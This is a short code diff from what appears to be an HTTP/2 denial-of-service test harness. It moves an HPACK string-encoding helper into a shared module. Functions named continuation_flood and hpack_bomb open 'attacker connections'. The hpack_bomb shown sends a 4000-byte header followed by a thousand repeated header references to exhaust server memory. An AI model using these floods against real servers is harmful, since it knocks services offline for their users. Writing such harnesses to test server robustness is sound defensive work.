@@ -61,20 +61,6 @@ def upload_block(length):
             tp.hpack_literal("content-length", str(length)))
 
 
-def hpack_string(b):
-    n, out = len(b), bytearray()
-    if n < 127:
-        out.append(n)
-    else:
-        out.append(127)
-        n -= 127
-        while n >= 128:
-            out.append((n & 127) | 128)
-            n >>= 7
-        out.append(n)
-    return bytes(out) + b
-
-
 def session(port, stop, body):
     """Opens attacker connections one after the other and runs |body(sock, stop)| on each."""
     while not stop.is_set():
@@ -109,7 +95,7 @@ def continuation_flood(s, stop):
 
 
 def hpack_bomb(s, stop):
-    block = get_block() + b"\x40" + hpack_string(b"x-bomb") + hpack_string(b"x" * 4000)
+    block = get_block() + b"\x40" + tp.hpack_string(b"x-bomb") + tp.hpack_string(b"x" * 4000)
     s.sendall(tp.frame(tp.HEADERS, tp.END_HEADERS | tp.END_STREAM, 1, block + b"\xbe" * 1000))
     tp.read_frames(s, 0.5)
 
